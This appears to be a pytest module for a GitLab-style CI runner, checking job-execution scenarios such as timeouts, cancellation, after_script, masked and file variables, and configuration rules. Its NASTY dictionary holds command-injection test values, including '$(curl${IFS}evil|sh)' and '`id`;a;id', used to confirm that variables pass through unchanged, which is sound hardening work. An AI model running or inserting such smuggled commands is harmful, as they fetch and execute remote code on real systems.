"""The scenarios of job-execution.md 10.5 that need neither git nor artifacts, each under its number, in one run for each
shell; where flotilla decides otherwise than the peer (docs/jobs.md), what is asserted is ours and the rule is named."""

import re
import secrets
import signal
import socket
from dataclasses import dataclass, field

import pytest

from checker.jobs import Job, make_job
from checker.rules import raw_lines
from checker.run import PATIENCE, Run, wait_for
from test_run import assert_nothing_lost, wait_for_trace
from test_shells import SHELLS, use_shell

REASONS = ["unknown_failure", "script_failure", "job_canceled", "runner_system_failure", "job_execution_timeout",
           "runner_configuration_error"]
SUCCESS = ("success", "", 0)
CANCELED = ("failed", "job_canceled", 0)
TIMED_OUT = ("failed", "job_execution_timeout", 0)

# hardening.md 13: what must come out of a variable as it went in.
NASTY = {
    "hardening_1": "$(curl${IFS}evil|sh)", "hardening_2": "`id`;a;id", "hardening_3": "it's ';id;'",
    "hardening_4": "a\nid", "hardening_5": "-n", "hardening_6": "~ * {a,b} !x a\\", "hardening_15": "%s%n%s%1$*2$n"}


def variable(key, value, **attributes):
    return {"key": key, "value": value, **attributes}


def job_of(number, steps, variables=(), timeout=600, project=9, path="g/p", **payload):
    token = "glcbt-" + secrets.token_hex(16)
    whole = {
        "id": number, "token": token, "allow_git_fetch": False,
        "job_info": {"name": f"job-{number}", "stage": "test", "project_id": project, "project_name": "p"},
        "git_info": {"repo_url": f"https://gitlab.invalid/{path}.git", "ref": "main", "sha": "1" * 40},
        "runner_info": {"timeout": timeout},
        "variables": [{"key": "GIT_STRATEGY", "value": "none"}, *variables],
        "steps": [{"name": name, "script": lines} for name, lines in steps.items()],
        "features": {"trace_sections": True, "failure_reasons": REASONS}, **payload}
    return Job(id=number, payload=whole, token=token)


class Ended:
    """What came of a job."""

    def __init__(self, state):
        self.final = state.finals[0] if state.finals else {}
        self.lines = [line.plain.decode() for line in raw_lines(bytes(state.trace))]
        self.text = "\n".join(self.lines)

    def result(self):
        return self.final.get("state"), self.final.get("failure_reason", ""), self.final.get("exit_code", 0)

    def has(self, *lines):
        """Whether these lines are in the log, one right behind the other."""
        at = range(len(self.lines) - len(lines) + 1)
        return any(self.lines[i:i + len(lines)] == list(lines) for i in at)


@dataclass
class Scenario:
    """A job, and what must come of it: the result, lines that follow each other, a pattern, the log's last line, words that
    are nowhere in it. No result: GitLab takes none of an aborted job."""

    name: str
    steps: dict
    result: tuple | None = SUCCESS
    has: list = field(default_factory=list)
    pattern: str = ""
    last: str = ""
    lacks: str = ""
    job: dict = field(default_factory=dict)

    def differs(self, ended):
        return ((self.result and ended.result() != self.result)
                or (self.has and not ended.has(*self.has))
                or (self.last and ended.lines[-1] != self.last)
                or (self.lacks and self.lacks in ended.text)
                or not re.search(self.pattern, ended.text, re.M | re.S))


def scenarios(folder, shell):
    """By the id of their job."""
    def script(*lines, after=None):
        return {"script": list(lines), **({"after_script": [after]} if after else {})}

    def here(mine, other):
        return script(f"pwd; : > '{folder}/{mine}'; while ! [ -e '{folder}/{other}' ]; do sleep 0.05; done")

    status = "echo status $CI_JOB_STATUS"
    exited = "ERROR: Job failed: run exit (exit code: {0}): Process exited with {1}"
    listed = [
        Scenario("job_execution_10_5_1", script("echo hi"), has=["$ echo hi", "hi"], last="Job succeeded"),
        Scenario("job_execution_10_5_2", script("echo a\necho b"), has=["$ echo a # collapsed multi-line command", "a", "b"]),
        Scenario("job_execution_10_5_3", script("echo a\necho b"), has=["  feature flags: FF_SCRIPT_SECTIONS:true"],
                 pattern=r"section_start:\d+:section_script_step_0\[hide_duration=true,collapsed=true\].*\$ echo a\necho b\n"
                         r"section_end:\d+:section_script_step_0\S*\na\nb\n",
                 job={"variables": [variable("FF_SCRIPT_SECTIONS", "true")]}),
        Scenario("job_execution_10_5_4", script("echo one", "   ", "echo two"),
                 has=["$ echo one", "one", "", "$ echo two", "two"]),
        Scenario("job_execution_10_5_5", script("exit 5", after=status), ("failed", "script_failure", 5),
                 has=["Running after script...", "$ " + status, "status failed"], last=exited.format(5, "status 5")),
        Scenario("job_execution_10_5_6", script("true", after="exit 1"),
                 has=["WARNING: after_script failed, but job will continue unaffected: run exit (exit code: 1): Process exited "
                      "with status 1"], last="Job succeeded"),
        Scenario("job_execution_10_5_7", script("true", after="exit 1"), ("failed", "script_failure", 1), lacks="unaffected",
                 job={"variables": [variable("AFTER_SCRIPT_IGNORE_ERRORS", "false")]}),
        Scenario("job_execution_10_5_8", script("sleep 600", after=status), TIMED_OUT, has=["status timedout"],
                 pattern="WARNING: step_script could not run to completion because the timeout was exceeded",
                 last="ERROR: Job failed: script timeout: context deadline exceeded",
                 job={"variables": [variable("RUNNER_SCRIPT_TIMEOUT", "1s")]}),
        # Other than the peer's, our clean-up runs when the time is up, where a script ran (hardening.md S4).
        Scenario("job_execution_10_5_9", script("sleep 600", after=status), TIMED_OUT, lacks="Running after",
                 pattern=r'\A((?!"step_script").)*\Z|Cleaning up project directory',
                 last="ERROR: Job failed: execution took longer than 4s seconds", job={"timeout": 4}),
        Scenario("job_execution_10_5_10", script("while echo running; do sleep 0.3; done", after=status), CANCELED,
                 has=["status canceled"], pattern=r"WARNING: script canceled externally \(UI, API\)",
                 last="ERROR: Job failed: canceled"),
        Scenario("job_execution_10_5_11", script(f"echo $FILE > '{folder}/file'; while echo running; do sleep 0.3; done",
                                                 after=f"echo > '{folder}/after'"), None,
                 job={"variables": [variable("FILE", "x", file=True)]}),
        Scenario("job_execution_10_5_12", script("true", after=f"while ! [ -e '{folder}/go-on' ]; do echo after; sleep 0.2; "
                                                               "done; echo after ended"), has=["after ended"]),
        Scenario("job_execution_10_5_30", {"script": ["echo X=1 >> $GITLAB_ENV"], "Second": ["echo X is $X"],
                                           "after_script": ["echo X is $X"]}, pattern="\nX is 1\n.*\nX is 1\n"),
        # A special builtin ends a shell that is no bash with a status of its own.
        Scenario("job_execution_10_5_31", {"script": ["echo >> $GITLAB_ENV"], "second": ["echo never"]},
                 ("failed", "script_failure", 1 if shell == "bash" else 2), lacks="never"),
        # Absolute from the beginning (hardening.md V9): the peer prints $PWD/builds/... as it is.
        Scenario("job_execution_10_5_32", script("echo env=$GITLAB_ENV"),
                 pattern=r"\nenv=/\S+/builds/\S+\.tmp/gitlab_runner_env\n"),
        Scenario("job_execution_10_5_33", script("echo file=$FILE", "cat $FILE"), pattern=r"\nfile=/\S+\.tmp/FILE\n.*\nit's \$X\n",
                 job={"variables": [variable("FILE", "it's $X\n", file=True, raw=True)]}),
        Scenario("job_execution_10_5_38", here("one", "other"), job={"project": 38, "path": "ns/p"}),
        Scenario("its neighbour", here("other", "one"), job={"project": 38, "path": "ns/p"}),
        Scenario("job_execution_10_5_40", {"script": ["exit 1"], "release": ["true"]}, ("failed", "script_failure", 1),
                 lacks="release"),
        Scenario("job_execution_10_5_42", script("exit 7"), ("failed", "script_failure", 7), last=exited.format(7, "[MASKED]"),
                 job={"variables": [variable("HIDDEN", "status 7", masked=True)]}),
        *(Scenario(name, script("printf '<%s>\\n' \"$V\""), pattern=re.escape(f"\n<{value}>\n"),
                   job={"variables": [variable("V", value, raw=True)]}) for name, value in NASTY.items()),
        Scenario("inputs", script("echo ${{ job.inputs.n }} ${{job.inputs.text}}"), has=["$ echo 1.5 a b", "1.5 a b"],
                 job={"inputs": [{"key": "n", "value": {"type": "number", "content": 1.5}},
                                 {"key": "text", "value": {"type": "string", "content": "a b"}}]}),
        Scenario("no such input", script("echo ${{ job.inputs.other }}"), ("failed", "runner_configuration_error", 0),
                 pattern=r"ERROR: Job failed: steps: .*: the job has no such input: \$\{\{ job.inputs.other \}\}\Z",
                 job={"inputs": [{"key": "n", "value": {"type": "number", "content": 1}}]}),
        Scenario("lines of a release", {"release": ["printf '%s\\n' '$NUMBER $$HOME'"]}, has=["one $HOME"],
                 job={"variables": [variable("NUMBER", "one")]}),
        Scenario("a policy's job", script("true"), has=['Job triggered by policy "scan".', "Variables of the user are ignored in "
                                                        "this job, except A, B."],
                 job={"policy_options": {"execution_policy_job": True, "policy_name": "scan",
                                         "policy_variables_override_allowed": False,
                                         "policy_variables_override_exceptions": ["A", "B"]}}),
    ]
    return dict(enumerate(listed, 1))


def wait_for_line(run, number, line):
    assert wait_for(lambda: b"O " + line + b"\n" in run.coordinator.jobs[number].trace), run.log_tail()


def drive(run, folder, by_name):
    """What happens to jobs while they run."""
    late = by_name["job_execution_10_5_12"]

    def answered():
        return sum(record.job_id == late for record in list(run.coordinator.records))

    for name, how in (("job_execution_10_5_10", "canceling"), ("job_execution_10_5_11", "canceled")):
        wait_for_line(run, by_name[name], b"running")
        run.coordinator.cancel(by_name[name], how)
    wait_for_line(run, late, b"after")
    run.coordinator.cancel(late)
    told = answered()
    assert wait_for(lambda: answered() > told + 1), run.log_tail()
    (folder / "go-on").touch()


@pytest.mark.parametrize("name", SHELLS)
def test_job_execution_10_5_scenarios(folder, binary, plugin_dir, name):
    setting, command, program = SHELLS[name]
    run = Run(folder, binary, plugin_dir, shell=setting, capacity=20, max_instances=2, idle_count=40, idle_time="1h",
              concurrent=40)
    run.start()
    use_shell(run, command, program, instances=2)
    expected = scenarios(folder, name)
    by_name = {scenario.name: number for number, scenario in expected.items()}
    run.coordinator.add(*(job_of(number, scenario.steps, **scenario.job) for number, scenario in expected.items()))
    drive(run, folder, by_name)
    assert run.coordinator.wait_all_ended(PATIENCE), run.log_tail()
    file = folder / (folder / "file").read_text().strip()
    assert file.is_absolute() and wait_for(lambda: not file.exists()), "an abort leaves file variables behind"
    assert run.stop() == 0
    run.watch.stop()
    run.coordinator.close()
    ended = {number: Ended(run.coordinator.jobs[number]) for number in expected}
    wrong = [number for number, scenario in expected.items() if scenario.differs(ended[number])]
    assert wrong == [], "\n".join(expected[number].name + ":\n" + ended[number].text for number in wrong) + run.log_tail()
    places = [line for number in (by_name["job_execution_10_5_38"], by_name["its neighbour"])
              for line in ended[number].lines if line.endswith("/ns/p")]
    assert sorted(place.split("/")[-3] for place in places) == ["0", "1"]
    assert not (folder / "after").exists(), "after_script ran after an abort"


def test_job_execution_10_5_39_41_43_and_what_the_configuration_rules(folder, binary, plugin_dir):
    (folder / "ca.pem").write_text("the chain\n")
    with socket.create_server(("127.0.0.1", 0)) as silent:
        run = Run(folder, binary, plugin_dir, shell="bash", max_use_count=1, max_instances=3, runner_extra=(
            f'  tls-ca-file = "{folder}/ca.pem"\n'
            '  pre_build_script = "echo pre"\n  use_slot_cgroups = true\n  debug_trace_disabled = true\n'
            '  get_sources_timeout = "2s"\n  environment = ["FF_SCRIPT_SECTIONS=1", "OURS=runner"]\n'
            "  [runners.instance]\n    use_common_build_dir = true\n"
            "  [runners.custom_build_dir]\n    enabled = true\n"
            "  [runners.feature_flags]\n    FF_TIMESTAMPS = false\n    FF_CONCRETE = true\n"))
        whole = job_of(1, {"script": ["pwd", "echo $GITLAB_RUNNER_SLOT_CGROUP $OURS", "cat $CI_SERVER_TLS_CA_FILE"],
                           "release": ["true"], "after_script": ["true"]},
                       [variable("FF_TIMESTAMPS", "true"), variable("CI_DEBUG_TRACE", "true"),
                        variable("RESTORE_CACHE_ATTEMPTS", "11")])
        custom = job_of(2, {"script": ["pwd"]}, [variable("GIT_CLONE_PATH", "$CI_BUILDS_DIR/mine")])
        outside = job_of(3, {"script": ["pwd"]}, [variable("GIT_CLONE_PATH", "/etc")])
        hanging = job_of(4, {"script": ["true"], "after_script": ["true"]}, variables=())
        hanging.payload["git_info"] |= {"repo_url": f"http://127.0.0.1:{silent.getsockname()[1]}/g/p.git",
                                        "refspecs": ["+refs/heads/main:refs/remotes/origin/main"]}
        hanging.payload["variables"] = []
        run.coordinator.add(whole, custom, outside, hanging)
        run.start()
        assert run.coordinator.wait_all_ended(PATIENCE), run.log_tail()
        assert run.stop() == 0
        run.watch.stop()
        run.coordinator.close()
    first, second, third, fourth = (Ended(run.coordinator.jobs[n]) for n in (1, 2, 3, 4))
    assert first.result() == SUCCESS, first.text
    assert first.lines.count("pre") == 2, "job_execution_10_5_41"
    assert re.search(r"^/\S+/builds/g/p$", first.text, re.M), "job_execution_10_5_39"
    assert first.has("gitlab-runner/slot-0 runner"), "job_execution_10_5_43"
    assert first.has("the chain"), first.text
    assert first.has("  feature flags: FF_CONCRETE:true, FF_SCRIPT_SECTIONS:true, FF_TIMESTAMPS:false"), first.text
    assert first.has("WARNING: CI_DEBUG_TRACE: usage is disabled on this Runner",
                     "RESTORE_CACHE_ATTEMPTS: number of attempts out of the range [1, 10], clamping to: 10"), first.text
    assert b"Z 0" not in run.coordinator.jobs[1].trace, "the configuration's word on FF_TIMESTAMPS counts"
    assert re.search(r"^/\S+/builds/mine$", second.text, re.M), second.text
    assert third.result() == ("failed", "runner_configuration_error", 0)
    assert re.search(r'ERROR: Job failed: the GIT_CLONE_PATH="/etc" has to be within "/\S+/builds"$', third.lines[-1])
    assert fourth.result() == TIMED_OUT, fourth.text
    assert fourth.lines[-1].endswith("ERROR: Job failed: get sources timeout: exceeded timeout of 2s")
    assert "Running after" not in fourth.text and "step_script" not in fourth.text


def test_job_execution_10_5_37_a_manager_that_is_told_to_stop_costs_no_job(folder, binary, plugin_dir):
    """The peer ends its jobs as interrupted; ours go on and are adopted (architecture.md 1)."""
    run = Run(folder, binary, plugin_dir)
    run.coordinator.add(make_job(1, str(run.marks), lines=4, gate=str(folder / "gate")))
    run.start()
    wait_for_trace(run, 1, b"line 0004")
    run.process.send_signal(signal.SIGTERM)
    assert run.wait_dead(PATIENCE) and run.process.returncode == 0, run.log_tail()
    run.start()
    assert run.wait_up()
    (folder / "gate").touch()
    assert_nothing_lost(run, run.finish())
